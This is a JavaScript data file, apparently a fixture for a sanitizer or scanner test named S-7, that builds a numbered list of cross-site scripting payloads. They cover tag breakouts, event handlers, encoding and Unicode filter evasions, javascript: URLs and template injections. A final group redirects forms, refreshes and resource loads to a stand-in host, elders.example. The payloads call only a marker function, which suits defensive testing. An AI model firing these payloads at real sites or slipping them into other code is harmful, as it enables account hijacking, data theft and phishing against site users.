// Ways in that once worked somewhere, made of families and the places they break out of: data for S-7, no test lives here.
// Each calls s7(n) when it runs, and each element it would make carries the mark data-s7.

/** What runs, once it stands in a page as markup. */
const DEEDS = [
  (n) => `<script data-s7>s7(${n})</script>`,
  (n) => `<img data-s7 src=x onerror=s7(${n})>`,
  (n) => `<svg data-s7 onload=s7(${n})>`,
  (n) => `<iframe data-s7 srcdoc="<script>parent.s7(${n})</script>"></iframe>`,
  (n) => `<details data-s7 open ontoggle=s7(${n})>`,
  (n) => `<input data-s7 autofocus onfocus=s7(${n})>`,
];

/** What has to be broken out of first. */
const BREAKS = [
  '', '">', "'>", '-->', '</textarea>', '</title>', '</option></select>', '</style>', '</script>', ']]>', '</button></form>', '<!-->',
  '</h1></main>', '</leptos-island>', '</noscript>', '<![CDATA[x]]>', '<a title="', '\\">', '</template>', '</td></table>',
];

/** Attributes that break out of the quotes they stand in, without a tag of their own. */
const HANDLERS = ['onfocus', 'onmouseover', 'onclick', 'onpointerenter', 'onanimationstart', 'oncontentvisibilityautostatechange'];
const attributes = HANDLERS.flatMap((handler) => [
  (n) => `" data-s7 autofocus tabindex=0 style="animation:x 1s;content-visibility:auto" ${handler}="s7(${n})`,
  (n) => `' data-s7 autofocus tabindex=0 ${handler}='s7(${n})`,
  (n) => `x data-s7 autofocus tabindex=0 ${handler}=s7(${n}) `,
]);

/** Tags that begin to run in their own ways. */
const tags = [
  (n) => `<body data-s7 onload=s7(${n})>`,
  (n) => `<svg data-s7><animate data-s7 onbegin=s7(${n}) attributeName=x dur=1s>`,
  (n) => `<svg data-s7><script data-s7>s7(${n})</script></svg>`,
  (n) => `<svg data-s7><script data-s7 href="data:text/javascript,s7(${n})"></script></svg>`,
  (n) => `<svg><style><img data-s7 src=x onerror=s7(${n})></style></svg>`,
  (n) => `<svg><foreignObject><img data-s7 src=x onerror=s7(${n})></foreignObject></svg>`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img data-s7 src=x onerror=s7(${n})>`,
  (n) => `<math><annotation-xml encoding="text/html"><img data-s7 src=x onerror=s7(${n})></annotation-xml></math>`,
  (n) => `<math><mi data-s7 xlink:href="javascript:s7(${n})">x</mi></math>`,
  (n) => `<video data-s7 src=x onerror=s7(${n})></video>`,
  (n) => `<audio data-s7 src=x onerror=s7(${n})>`,
  (n) => `<video><source data-s7 onerror=s7(${n}) src=x></video>`,
  (n) => `<object data-s7 data="data:text/html,<script>s7(${n})</script>"></object>`,
  (n) => `<embed data-s7 src="javascript:s7(${n})">`,
  (n) => `<iframe data-s7 src="javascript:parent.s7(${n})"></iframe>`,
  (n) => `<iframe data-s7 onload=s7(${n})></iframe>`,
  (n) => `<iframe data-s7 srcdoc="&lt;img src=x onerror=parent.s7(${n})&gt;"></iframe>`,
  (n) => `<script data-s7 src="data:text/javascript,s7(${n})"></script>`,
  (n) => `<script data-s7 type=module>s7(${n})</script>`,
  (n) => `<script data-s7 nonce="">s7(${n})</script>`,
  (n) => `<link data-s7 rel=stylesheet href="data:text/css,*{}" onload=s7(${n})>`,
  (n) => `<style data-s7 onload=s7(${n})>*{}</style>`,
  (n) => `<style data-s7>@keyframes x{}</style><b data-s7 style="animation:x 1s" onanimationend=s7(${n})>`,
  (n) => `<marquee data-s7 onstart=s7(${n})>x</marquee>`,
  (n) => `<button data-s7 popovertarget=p>x</button><b id=p popover data-s7 onbeforetoggle=s7(${n})>x</b>`,
  (n) => `<select data-s7 autofocus onfocus=s7(${n})><option>x</select>`,
  (n) => `<textarea data-s7 autofocus onfocus=s7(${n})></textarea>`,
  (n) => `<a data-s7 tabindex=0 autofocus onfocus=s7(${n})>x</a>`,
  (n) => `<template shadowrootmode=open><img data-s7 src=x onerror=s7(${n})></template>`,
  (n) => `<noscript><p title="</noscript><img data-s7 src=x onerror=s7(${n})>">`,
  (n) => `<dialog data-s7 open onfocusin=s7(${n})><input autofocus></dialog>`,
  (n) => `<frameset data-s7 onload=s7(${n})>`,
];

/** Writing that a filter overlooks: case, spaces, slashes, entities, doubled tags, half tags. */
const spellings = [
  (n) => `<ScRiPt data-s7>s7(${n})</sCrIpT>`,
  (n) => `<script\tdata-s7\t>s7(${n})</script\t>`,
  (n) => `<script/data-s7>s7(${n})</script x>`,
  (n) => `<img/data-s7/src=x/onerror=s7(${n})>`,
  (n) => `<img data-s7 src=x onerror\t=\ts7(${n})>`,
  (n) => `<img data-s7 src=x onerror="s7&#40;${n}&#41;">`,
  (n) => `<img data-s7 src=x onerror="&#x73;7(${n})">`,
  (n) => `<img data-s7 src=x onerror="s\\u0037(${n})">`,
  (n) => `<img data-s7 src=x onerror="\\u0073\\u{37}(${n})">`,
  (n) => `<img data-s7 src=x onerror=window['s'+7](${n})>`,
  (n) => `<img data-s7 src=x onerror=s7\`${n}\`>`,
  (n) => `<img data-s7 src="x" onerror="eval('s7('+${n}+')')">`,
  (n) => `<scr<script>ipt data-s7>s7(${n})</scr</script>ipt>`,
  (n) => `<<script data-s7>s7(${n})//<</script>`,
  (n) => `<script data-s7>s7(${n})`,
  (n) => `<img data-s7 src=x onerror=s7(${n})//`,
  (n) => `<svg><svg data-s7 onload=s7(${n})//`,
  (n) => `<img """><script data-s7>s7(${n})</script>">`,
  (n) => `<x data-s7 tabindex=0 autofocus onfocus=s7(${n})>`,
  (n) => `<!--<img src="--><img data-s7 src=x onerror=s7(${n})//">`,
  (n) => `<comment><img src="</comment><img data-s7 src=x onerror=s7(${n})//">`,
  (n) => `<?xml version="1.0"?><img data-s7 src=x onerror=s7(${n})>`,
  (n) => `<!DOCTYPE x [<!ENTITY y "z">]><img data-s7 src=x onerror=s7(${n})>`,
  (n) => `<!><img data-s7 src=x onerror=s7(${n})>`,
  (n) => `&lt;script&gt;s7(${n})&lt;/script&gt;`,
  (n) => `&#60;script&#62;s7(${n})&#60;/script&#62;`,
  (n) => `&amp;lt;script&amp;gt;s7(${n})&amp;lt;/script&amp;gt;`,
  (n) => `%3Cscript%3Es7(${n})%3C/script%3E`,
  (n) => `%253Cscript%253Es7(${n})%253C/script%253E`,
  (n) => `\\u003cscript\\u003es7(${n})\\u003c/script\\u003e`,
  (n) => `\\x3cscript\\x3es7(${n})\\x3c/script\\x3e`,
  (n) => `+ADw-script+AD4-s7(${n})+ADw-/script+AD4-`,
];

/** Signs that look like others, turn the writing round, take no room, or are no text at all. */
const signs = [
  (n) => `\uFF1Cscript\uFF1Es7(${n})\uFF1C/script\uFF1E`,
  (n) => `\u02BAonfocus=s7(${n}) autofocus`,
  (n) => `\u202Eaanmaak<script data-s7>s7(${n})</script>\u202C`,
  (n) => `\u2066<img data-s7 src=x onerror=s7(${n})>\u2069`,
  (n) => `<scr\u200Bipt data-s7>s7(${n})</scr\u200Bipt>`,
  (n) => `\u200D<svg data-s7 onload=s7(${n})>`,
  (n) => `<img\u00A0data-s7 src=x onerror=s7(${n})>`,
  (n) => `<script data-s7>\u2028s7(${n})\u2029</script>`,
  (n) => `<\u0131mg data-s7 src=x onerror=s7(${n})>`,
  (n) => `<s\u0441ript data-s7>s7(${n})</s\u0441ript>`,
  (n) => `\uD83D\uDE00<svg data-s7 onload=s7(${n})>\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67`,
  (n) => `e\u0301\u0301\u0301<svg data-s7 onload=s7(${n})>`,
  (n) => `\uFEFF<script data-s7>s7(${n})</script>`,
  (n) => `\u00C0\u00BCscript\u00C0\u00BEs7(${n})`,
  (n) => `%00<script data-s7>s7(${n})</script>`,
  (n) => `&#0;<script data-s7>s7(${n})</script>`,
  (n) => `<img data-s7 src=x onerror=s7(${n}) title=${'a'.repeat(60)}>`,
  (n) => `\uFFFE\uFFFF<svg data-s7 onload=s7(${n})>`,
];

/** Addresses that run instead of leading somewhere. */
const addresses = [
  (n) => `javascript:s7(${n})`,
  (n) => `JaVaScRiPt:s7(${n})`,
  (n) => `java&#9;script:s7(${n})`,
  (n) => `javascript://%0As7(${n})`,
  (n) => `javascript&colon;s7(${n})`,
  (n) => `data:text/html,<script>s7(${n})</script>`,
  (n) => `vbscript:s7(${n})`,
  (n) => `<a data-s7 href="javascript:s7(${n})">x</a>`,
  (n) => `<a data-s7 href="  javascript:s7(${n})">x</a>`,
  (n) => `<a data-s7 href=java&Tab;script:s7(${n})>x</a>`,
  (n) => `<svg><a data-s7 xlink:href="javascript:s7(${n})"><text y=9>x</text></a></svg>`,
  (n) => `<form data-s7><button data-s7 formaction="javascript:s7(${n})">x</button></form>`,
  (n) => `<form data-s7 action="javascript:s7(${n})"><input data-s7 type=submit></form>`,
  (n) => `<area data-s7 href="javascript:s7(${n})">`,
  (n) => `[x](javascript:s7(${n}))`,
  (n) => `![x](x"onerror="s7(${n}))`,
];

/** Languages of templates, of scripts and of islands. */
const templates = [
  (n) => `{{constructor.constructor('s7(${n})')()}}`,
  (n) => `{{ s7(${n}) }}`,
  (n) => `\${s7(${n})}`,
  (n) => `#{s7(${n})}`,
  (n) => `<%= s7(${n}) %>`,
  (n) => `{% raw %}<script data-s7>s7(${n})</script>{% endraw %}`,
  (n) => `{ $product } { s7(${n}) }`,
  (n) => `';s7(${n});'`,
  (n) => `";s7(${n});"`,
  (n) => `\`;s7(${n});\``,
  (n) => `\\';s7(${n});//`,
  (n) => `</script><script data-s7>s7(${n})</script>`,
  (n) => `{"__proto__":{"s7":"s7(${n})"}}`,
  (n) => `<leptos-island data-s7 data-component="VoteHands" data-props='{"give":"s7(${n})"}'><script data-s7>s7(${n})</script></leptos-island>`,
  (n) => `"}'></leptos-island><script data-s7>s7(${n})</script>`,
  (n) => `<leptos-children data-s7><img data-s7 src=x onerror=s7(${n})></leptos-children>`,
];

/** What runs nothing but takes the page elsewhere or changes what it does. */
const takeovers = [
  (n) => `<base data-s7 href="//elders.example/${n}/">`,
  (n) => `<meta data-s7 http-equiv=refresh content="0;url=//elders.example/${n}">`,
  (n) => `<meta data-s7 http-equiv="Content-Security-Policy" content="script-src *"><script data-s7>s7(${n})</script>`,
  (n) => `<form data-s7 action="//elders.example/${n}"><button data-s7>Verder</button>`,
  (n) => `"></form><form data-s7 action="//elders.example/${n}"><input data-s7 name=x>`,
  (n) => `<button data-s7 formaction="//elders.example/${n}">Verder</button>`,
  (n) => `<img data-s7 src="//elders.example/${n}.png">`,
  (n) => `<img data-s7 src='//elders.example/${n}?`,
  (n) => `<link data-s7 rel=stylesheet href="//elders.example/${n}.css">`,
  (n) => `<link data-s7 rel=prefetch href="//elders.example/${n}">`,
  (n) => `<style data-s7>@import "//elders.example/${n}.css";</style>`,
  (n) => `<div data-s7 style="background:url(//elders.example/${n}.png)">x</div>`,
  (n) => `x;background:url(//elders.example/${n}.png)`,
  (n) => `}*{background:url(//elders.example/${n}.png)}`,
  (n) => `<input data-s7 type=hidden name=formulier value=wissen><i data-s7>${n}</i>`,
  (n) => `<div data-s7 id=inhoud class=wl-page>${n}</div>`,
  (n) => `<plaintext data-s7>${n}`,
  (n) => `<xmp data-s7>${n}`,
];

/** Every break with some of the deeds, so that each deed meets each place in the course of the list. */
const breakouts = BREAKS.flatMap((out, at) => [0, 1, 2].map((step) => (n) => out + DEEDS[(at + step * 2) % DEEDS.length](n)));

const ALL = [...breakouts, ...attributes, ...tags, ...spellings, ...signs, ...addresses, ...templates, ...takeovers];

/** The payloads themselves, each with its number in it. */
export const PAYLOADS = ALL.map((make, n) => make(n));
